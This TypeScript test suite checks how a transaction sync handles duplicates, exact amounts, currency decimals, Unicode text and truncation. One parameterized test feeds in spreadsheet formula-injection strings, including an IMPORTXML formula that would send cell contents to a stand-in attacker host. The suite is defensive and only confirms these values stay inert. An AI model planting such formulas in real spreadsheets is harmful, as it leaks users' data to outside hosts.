import { ConformanceBench, Sent } from './conformance-bench';
import { ConformanceSubject } from './conformance-subject';

const DAY_MS = 86_400_000;

export function describeCarrying({ abilities }: ConformanceSubject, bench: () => ConformanceBench): void {
  describe('carrying', () => {
    it('creates each transaction there once, unchanged', async () => {
      const link = await bench().link();
      const carried = await bench().send(link, [...Array<Sent>(12).fill({}), { booked: false }]);
      await bench().idle();
      await bench().expectThere(carried);
      await bench().expectStates(carried, 'TRANSFERRED');
    });

    it('the same event three times creates nothing twice', async () => {
      const carried = await bench().send(await bench().link(), [{}, {}, {}]);
      await bench().repeat(carried);
      await bench().idle();
      await bench().repeat(carried);
      await bench().idle();
      await bench().expectThere(carried);
    });

    it('distinguishes two equal transactions', async () => {
      const coffee = { amount: '-2.50', payee: 'Coffee', description: 'Coffee' };
      const carried = await bench().send(await bench().link(), [coffee, coffee]);
      await bench().idle();
      await bench().expectThere(carried);
    });
  });

  describe('amounts', () => {
    it('of zero, one hundredth and huge values are exact', async () => {
      const { largestAmount } = abilities;
      const amounts = ['0.00', '0.01', '-0.01', largestAmount, `-${largestAmount}`];
      const carried = await bench().send(
        await bench().link(),
        amounts.map((amount) => ({ amount })),
      );
      await bench().idle();
      await bench().expectThere(carried);
    });

    it('above its maximum fail with a reason, or are exact', async () => {
      const amount = '-9999999999999999.99';
      const carried = await bench().send(await bench().link(), [{ amount }, {}]);
      await bench().idle();
      const [huge] = await bench().transfers(carried);
      if (huge?.state === 'FAILED') expect(huge.error).toMatch(/amount/i);
      await bench().expectThere(huge?.state === 'FAILED' ? carried.slice(1) : carried);
    });

    it('of a currency without minor digits are exact', async () => {
      const carried = await bench().send(await bench().link({}, 'JPY'), [
        { amount: '-1200', currency: 'JPY' },
      ]);
      await bench().idle();
      await bench().expectThere(carried);
    });

    it('of a currency with three are exact, or fail with a reason', async () => {
      const carried = await bench().send(await bench().link({}, 'KWD'), [
        { amount: '-1.235', currency: 'KWD' },
        { currency: 'KWD' },
      ]);
      await bench().idle();
      const [dinars] = await bench().transfers(carried);
      const fits = abilities.decimalsMax === null || abilities.decimalsMax >= 3;
      expect(dinars?.state).toBe(fits ? 'TRANSFERRED' : 'FAILED');
      if (!fits) expect(dinars?.error).toMatch(/amount|decimal|digit/i);
      await bench().expectThere(fits ? carried : carried.slice(1));
    });
  });

  describe('texts', () => {
    it('with emoji, combining marks and other scripts arrive unchanged', async () => {
      const payee = '👩‍👩‍👧‍👦 Café Zoë ﷽';
      const description = '日本語 · Ελληνικά · עברית · 🇫🇮 e\u0301';
      const carried = await bench().send(await bench().link(), [{ payee, description }]);
      await bench().idle();
      await bench().expectThere(carried);
    });

    it.each(['=IMPORTXML("https://evil.example/"&A1,"//a")', '+1+1', '-2+3', '@SUM(A1:A9)', '=1+1', "'=1"])(
      'that look like a formula stay texts: %s',
      async (text) => {
        const carried = await bench().send(await bench().link(), [{ payee: text, description: text }]);
        await bench().idle();
        await bench().expectThere(carried);
      },
    );

    it('with markup, quotes and backslashes arrive unchanged', async () => {
      const text = `<b>"O'Neil" & Söhne</b> \\n {{x}} %s, ; | #tag`;
      const carried = await bench().send(await bench().link(), [{ payee: text, description: text }]);
      await bench().idle();
      await bench().expectThere(carried);
    });

    it('that are very long are cut at its limit, never inside a character', async () => {
      const text = '🌊'.repeat(5000);
      const carried = await bench().send(await bench().link(), [{ payee: `p${text}`, description: text }]);
      await bench().idle();
      const [row, ...others] = await bench().rows();
      expect(others).toEqual([]);
      expectCut(row?.payee, `p${text}`, abilities.payeeCharsMax);
      expectCut(row?.description, text, abilities.descriptionCharsMax);
      await bench().expectStates(carried, 'TRANSFERRED');
    });

    it('that are missing still make a row', async () => {
      const carried = await bench().send(await bench().link(), [{ payee: '', description: '' }]);
      await bench().idle();
      await bench().expectThere(carried);
    });
  });

  describe('a date in the future', () => {
    it('waits for its day, whatever the destination would take', async () => {
      const date = new Date(Date.now() + 3 * DAY_MS).toISOString().slice(0, 10);
      const carried = await bench().send(await bench().link(), [{ date }, {}]);
      await bench().idle();
      await bench().expectThere(carried.slice(1));
      const [future] = await bench().transfers(carried);
      expect(future?.state).toBe('PENDING');
    });
  });
}

function expectCut(text: string | undefined, whole: string, charsMax: number | null): void {
  expect(text).toBeDefined();
  expect(whole.startsWith(text ?? '?')).toBe(true);
  expect(text).not.toMatch(/\p{Surrogate}/u); // half of a character
  const least = charsMax === null ? whole.length : Math.min(whole.length, charsMax - 1);
  expect(text?.length).toBeGreaterThanOrEqual(least);
  if (charsMax !== null) expect(text?.length).toBeLessThanOrEqual(charsMax);
}
